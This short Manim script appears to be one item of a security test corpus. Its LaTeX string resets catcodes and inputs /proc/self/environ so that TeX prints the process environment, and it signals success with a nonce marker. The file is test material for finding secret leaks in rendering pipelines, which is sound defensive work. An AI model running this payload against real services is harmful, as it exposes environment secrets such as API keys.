# ATTACK: secret
# SUCCESS: TeX reads the environment of its own process
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        t = Tex(r"\begingroup\catcode0=12\catcode`\_=12\catcode`\$=12\catcode`\#=12\catcode`\&=12\catcode`\%=12\input{/proc/self/environ}\endgroup")
        if len(t.family_members_with_points()) > 60: print("PWN" "ED-@NONCE@")
        self.add(Dot()); self.wait(0.1)
